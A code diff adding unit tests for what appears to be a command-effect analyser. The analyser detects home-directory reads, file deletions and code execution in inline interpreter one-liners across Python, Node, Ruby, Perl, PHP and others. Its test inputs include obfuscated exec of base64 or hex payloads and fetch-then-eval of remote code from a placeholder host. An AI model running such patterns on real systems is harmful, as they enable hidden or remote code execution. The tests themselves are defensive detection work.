@@ -106,3 +106,72 @@ describe('programs on the command line', () => {
     expect(effects('python3 x.py', 'execute')).toMatchObject([{ from: 'file', path: '/home/dev/shop/x.py' }]);
   });
 });
+
+describe('the home folder, in every way to say it', () => {
+  test.each([
+    ['python3 -c', "open(os.path.expanduser('~') + '/.x').read()"],
+    ['python3 -c', "(Path.home() / '.x').read_text()"],
+    ['python3 -c', "p = Path.home() / '.x'\nprint(p.read_text())"],
+    ['python3 -c', "open(f'{Path.home()}/.x')"],
+    ['python3 -c', "open(os.environ['HOME'] + '/.x')"],
+    ['python3 -c', "open(os.path.join(os.getenv('HOME'), '.x'))"],
+    ['node -e', "fs.readFileSync(require('os').homedir() + '/.x')"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the program's.
+    ['node -e', 'fs.readFileSync(`${os.homedir()}/.x`)'],
+    ['node -e', "fs.readFileSync(path.join(os.homedir(), '.x'))"],
+    ['node -e', "fs.readFileSync(process.env.HOME + '/.x')"],
+    ['bun -e', "require('fs').readFileSync(process.env['HOME'] + '/.x')"],
+    ['ruby -e', "File.read(Dir.home + '/.x')"],
+    ['ruby -e', 'File.read("#{Dir.home}/.x")'],
+    ['ruby -e', "File.read(ENV['HOME'] + '/.x')"],
+    ['perl -e', 'open(F, "<", "$ENV{HOME}/.x")'],
+    ['php -r', "file_get_contents(getenv('HOME') . '/.x');"],
+    ['deno eval', "Deno.readTextFile(Deno.env.get('HOME') + '/.x')"],
+  ])('%s %j', (program, code) => {
+    expect(paths(inline(program, code), 'read')).toEqual(['/home/dev/.x']);
+  });
+});
+
+describe('comments are not code', () => {
+  test.each([
+    ['python3 -c', "# os.remove('/x')\nprint(1)"],
+    ['node -e', "// fs.unlinkSync('/x')\n/* fs.unlinkSync('/x') */ console.log(1)"],
+    ['ruby -e', "puts 1 # File.delete('/x')"],
+    ['lua -e', "-- os.remove('/x')\nprint(1)"],
+    ['php -r', "// unlink('/x');\necho 1;"],
+    ['awk', 'BEGIN { print 1 } # system("rm /x")'],
+  ])('%s %j', (program, code) => {
+    expect(paths(inline(program, code), 'delete')).toEqual([]);
+  });
+
+  test.each([
+    ['python3 -c', "print('#'); os.remove('/x')"],
+    ['node -e', "get('http://a.example'); fs.unlinkSync('/x')"],
+    ['perl -e', "print $#list; unlink '/x'"],
+    ['python3 -c', "print('''# '''); os.remove('/x')"],
+  ])('what only looks like one is: %s %j', (program, code) => {
+    expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
+  });
+});
+
+describe('text that is run as code', () => {
+  test.each([
+    ['python3 -c', "exec(__import__('base64').b64decode('cHJpbnQ='))", 'decoded'],
+    ['python3 -c', "exec(bytes.fromhex('70').decode())", 'decoded'],
+    ['python3 -c', 'c = zlib.decompress(x)\nexec(c)', 'decoded'],
+    ['node -e', "eval(atob('MQ=='))", 'decoded'],
+    ['node -e', "new Function(Buffer.from('MQ==', 'base64').toString())()", 'decoded'],
+    ['perl -e', 'eval decode_base64("MQ==")', 'decoded'],
+    ['ruby -e', 'eval(["MQ=="].pack("m").unpack1("m"))', 'decoded'],
+    ['python3 -c', "exec(urllib.request.urlopen('http://a.example/x').read())", 'network'],
+    ['node -e', "fetch('http://a.example/x').then(r => r.text()).then(eval)", 'network'],
+    ['python3 -c', 'exec(input())', 'unknown'],
+  ])('%s %j is %s', (program, code, from) => {
+    expect(effects(inline(program, code), 'execute').map((effect) => effect.from)).toContain(from);
+  });
+
+  test('what stands there is looked into', () => {
+    expect(paths(inline('python3 -c', `exec("import os; os.remove('/x')")`), 'delete')).toContain('/x');
+    expect(effects(inline('python3 -c', "print(eval('1 + 1'))"), 'execute')).toEqual([]);
+  });
+});
